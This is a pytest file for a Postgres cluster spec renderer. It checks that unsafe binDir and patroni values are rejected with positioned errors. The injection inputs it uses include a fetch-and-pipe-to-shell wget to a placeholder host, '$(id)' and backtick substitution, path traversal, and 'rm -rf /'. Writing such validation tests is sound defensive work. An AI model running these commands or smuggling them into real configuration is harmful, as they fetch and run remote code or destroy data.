"""spec.imageContract: binDir is an absolute path of plain characters with {version} its only
placeholder, substituted by replacement (never str.format); patroni is a name on PATH or such a path.
Anything else is a positioned spec error, never a traceback and never a word in the reconcile script."""

from __future__ import annotations

import shlex
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pgrender.components.reconcile import SQL, reconcile_script
from pgrender.plan import ClusterPlan, defaults
from pgrender.plan.parameters import catalogue
from pgrender.spec import SUPPORTED_POSTGRES_VERSIONS
from tests.conftest import base_spec, run_cli

SPEC_TEXT = """\
apiVersion: pgrender.io/v1alpha1
kind: PostgresCluster
metadata: {{name: hippo, namespace: db}}
spec:
  postgresVersion: 16
  imageContract:
    {field}: {value}
  instances:
    - name: instance1
      replicas: 1
      dataVolume: {{size: 1Gi}}
"""


def validate(tmp_path: Path, field: str, value: str) -> Any:
    path = tmp_path / "spec.yaml"
    path.write_text(SPEC_TEXT.format(field=field, value=value))
    return run_cli("validate", str(path)), path


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ('"/x; wget -q -O- http://example.invalid/x | sh #"', "' ', '#', ':', ';', '|' not allowed"),
        ('"/usr/lib/postgresql/{x}/bin"', "'{', '}' not allowed"),
        ('"/usr/lib/postgresql/{version/bin"', "'{' not allowed"),
        ('"/usr/lib/postgresql/{0.__class__}/bin"', "'{', '}' not allowed"),
        ('"/usr/lib/$(id)/bin"', "'$', '(', ')' not allowed"),
        ('"/usr/lib/`id`/bin"', "'`' not allowed"),
        ('"/usr/lib/post gres"', "' ' not allowed"),
        ('"/usr/lib/\\npsql"', "'\\n' not allowed"),
        ('"usr/lib/postgresql/{version}/bin"', "is not an absolute path"),
        ('""', "is not an absolute path"),
        ('"/usr/lib/../../tmp"', "'..' is not allowed"),
    ],
)
def test_bad_bin_dir_is_a_positioned_error(tmp_path: Path, value: str, message: str) -> None:
    result, path = validate(tmp_path, "binDir", value)
    assert result.exit_code == 2
    assert "Traceback" not in result.stderr
    assert result.stderr.startswith(f"{path}:7:5: spec.imageContract.binDir: "), result.stderr
    assert message in result.stderr
    assert len(result.stderr.splitlines()) == 1


@pytest.mark.parametrize(
    "value",
    ['"patroni; rm -rf /"', '"-patroni"', '"patroni --x"', '"$(patroni)"', '"/usr/bin/patroni x"', '"bin/patroni"'],
)
def test_bad_patroni_is_a_positioned_error(tmp_path: Path, value: str) -> None:
    result, path = validate(tmp_path, "patroni", value)
    assert result.exit_code == 2
    assert result.stderr.startswith(f"{path}:7:5: spec.imageContract.patroni: "), result.stderr


@pytest.mark.parametrize("value", ["patroni", "patroni3", "/usr/local/bin/patroni", "/opt/patroni-4.0/bin/patroni"])
def test_good_patroni(tmp_path: Path, value: str) -> None:
    assert validate(tmp_path, "patroni", value)[0].exit_code == 0


@pytest.mark.parametrize(
    ("bin_dir", "resolved"),
    [
        (None, "/usr/lib/postgresql/16/bin"),
        ("/usr/pgsql-{version}/bin", "/usr/pgsql-16/bin"),
        ("/opt/pg/{version}/{version}/bin", "/opt/pg/16/16/bin"),
        ("/usr/local/bin", "/usr/local/bin"),
        ("/opt/post_gres.d/bin-x/", "/opt/post_gres.d/bin-x/"),
    ],
)
def test_bin_dir_substitutes_version_only(
    plan_of: Callable[[dict[str, Any]], ClusterPlan], bin_dir: str | None, resolved: str
) -> None:
    spec = base_spec()
    if bin_dir is not None:
        spec["spec"]["imageContract"] = {"binDir": bin_dir}
    plan = plan_of(spec)
    assert plan.bin_dir == resolved
    script = reconcile_script(plan, [SQL])
    assert f"until {resolved}/pg_isready --quiet; do sleep 2; done\n" in script
    assert f"\n{resolved}/psql --no-psqlrc" in script


def test_the_script_has_the_words_it_should(plan_of: Callable[[dict[str, Any]], ClusterPlan]) -> None:
    spec = base_spec()
    spec["spec"]["imageContract"] = {"binDir": "/usr/pgsql-{version}/bin"}
    script = reconcile_script(plan_of(spec), [SQL])
    lines = script.replace("\\\n", " ").splitlines()
    wait, recovery = [line for line in lines if line.startswith("until ")]
    assert shlex.split(wait) == ["until", "/usr/pgsql-16/bin/pg_isready", "--quiet;", "do", "sleep", "2;", "done"]
    assert recovery.startswith('until [ "$(/usr/pgsql-16/bin/psql --no-psqlrc ')
    (psql,) = [shlex.split(line) for line in lines if line.startswith("/usr/pgsql-16/bin/psql")]
    assert psql[:3] == ["/usr/pgsql-16/bin/psql", "--no-psqlrc", "--set=ON_ERROR_STOP=1"]
    assert subprocess.run(["sh", "-n", "-c", script], check=False).returncode == 0


def test_every_supported_version_has_a_default_image_and_a_catalogue() -> None:
    assert sorted(defaults.IMAGES) == sorted(SUPPORTED_POSTGRES_VERSIONS)
    for version in SUPPORTED_POSTGRES_VERSIONS:
        assert len(catalogue(version)) > 300


def test_postgres_18_takes_spilo_18_and_the_default_contract(plan_of: Callable[[dict[str, Any]], ClusterPlan]) -> None:
    spec = base_spec()
    spec["spec"]["postgresVersion"] = 18
    plan = plan_of(spec)
    # Zalando's postgres-operator v2 default: PGDG's 18 in Debian's layout, Patroni 4.1, postgres 101:103.
    assert plan.image == "ghcr.io/zalando/spilo-18:4.1-p2"
    assert plan.bin_dir == "/usr/lib/postgresql/18/bin" and plan.data_dir == "/pgdata/pg18"
    assert (plan.run_as_user, plan.run_as_group, plan.fs_group) == (101, 103, 103)
